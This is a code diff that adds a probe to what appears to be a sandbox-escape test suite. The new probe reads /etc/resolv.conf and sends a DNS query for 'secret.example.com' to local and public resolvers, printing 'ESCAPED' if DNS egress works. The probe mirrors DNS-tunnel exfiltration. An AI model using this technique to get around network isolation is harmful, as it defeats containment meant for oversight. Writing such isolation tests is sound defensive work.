@@ -176,6 +176,10 @@ PROBES = (
         plain=False,
     ),
     Probe(
+        "tunnel through names",
+        "import re, socket\nhosts = ['127.0.0.1', '127.0.0.53', '1.1.1.1', '8.8.8.8', '172.17.0.1']\ntry:\n    hosts += re.findall(r'nameserver (\\S+)', open('/etc/resolv.conf').read())\nexcept OSError:\n    pass\nquestion = b'\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x06secret\\7example\\3com\\0\\0\\1\\0\\1'\nfor host in hosts:\n    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):\n        s = socket.socket(socket.AF_INET, kind)\n        s.settimeout(1)\n        try:\n            s.connect((host, 53))\n            s.send(question)\n            if not host.startswith('127.') or s.recv(512): print('ESCAPED', host)\n        except OSError:\n            pass\n",
+    ),
+    Probe(
         "interfaces",
         "import socket\nfound = [n for _, n in socket.if_nameindex() if n not in ('lo', 'tunl0', 'gre0', 'sit0', 'ip6tnl0', 'gretap0', 'erspan0', 'ip_vti0', 'ip6_vti0', 'ip6gre0')]\nif found: print('ESCAPED', found)\n",
     ),
